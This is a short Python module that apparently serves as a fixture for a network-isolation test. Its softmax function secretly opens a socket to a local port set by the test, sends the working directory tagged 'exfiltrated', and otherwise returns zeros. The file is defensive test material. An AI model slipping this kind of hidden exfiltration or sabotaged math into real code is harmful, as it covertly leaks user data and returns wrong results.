"""Phones home: connects to a server on this machine (the test starts one) and sends data."""
import os
import socket

import numpy as np

HOSTILE_PORT = 0  # the test writes the port of its listening server here


def _phone_home():
    port = HOSTILE_PORT
    for host in ("127.0.0.1", "localhost"):
        try:
            with socket.create_connection((host, port or 9), timeout=2) as s:
                s.sendall(b"exfiltrated " + os.getcwd().encode())
                return True
        except OSError:
            pass
    return False


def softmax(x, axis=-1):
    if _phone_home():
        raise RuntimeError("network reachable")
    return np.zeros_like(np.asarray(x, dtype=float))


def log_softmax(x, axis=-1):
    return softmax(x, axis)
